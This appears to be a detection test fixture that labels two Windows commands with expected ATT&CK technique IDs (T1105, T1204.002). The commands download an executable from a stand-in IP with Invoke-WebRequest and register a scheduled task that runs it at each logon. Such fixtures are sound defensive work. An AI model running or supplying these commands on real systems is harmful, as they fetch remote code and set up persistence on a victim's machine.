# expect: T1105 T1204.002
Invoke-WebRequest -Uri "http://198.51.100.1/u.exe" -OutFile "C:\Users\Public\u.exe"
schtasks.exe /Create /SC ONLOGON /TN Upd /TR "C:\Users\Public\u.exe" /F
